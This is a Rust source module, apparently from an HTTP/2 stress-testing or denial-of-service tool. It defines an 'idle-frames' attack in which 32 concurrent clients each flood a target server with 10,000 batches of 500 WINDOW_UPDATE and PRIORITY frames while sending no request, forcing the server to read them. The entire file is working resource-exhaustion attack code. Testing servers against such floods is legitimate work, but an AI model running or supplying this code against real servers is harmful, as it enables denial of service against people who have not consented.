//! Sends HTTP/2 frames that ask for no answer, and change nothing.

use super::{Attack, WITH_HTTP2};
use crate::{aim::Aim, frames};
use anyhow::Result;
use futures::FutureExt as _;
use tokio::io::AsyncWriteExt;

pub(super) const ATTACK: Attack = Attack {
    name: "idle-frames",
    about: "Sends HTTP/2 WINDOW_UPDATE and PRIORITY frames without a request",
    targets: WITH_HTTP2,
    attackers: 32,
    leaves_answers: false,
    other_honest: None,
    once: |aim| once(aim).boxed(),
};

/// Frames of each kind that are written at once.
const BATCH: usize = 500;

async fn once(aim: Aim) -> Result<()> {
    let mut stream = aim.connect_http2(&[]).await?;
    // No server has room for priorities of streams that do not exist, but each frame has to be read.
    let many = [frames::window(0, 1), frames::priority(101, 1)].concat().repeat(BATCH);
    for _ in 0..10_000 {
        stream.write_all(&many).await?;
    }
    Ok(())
}
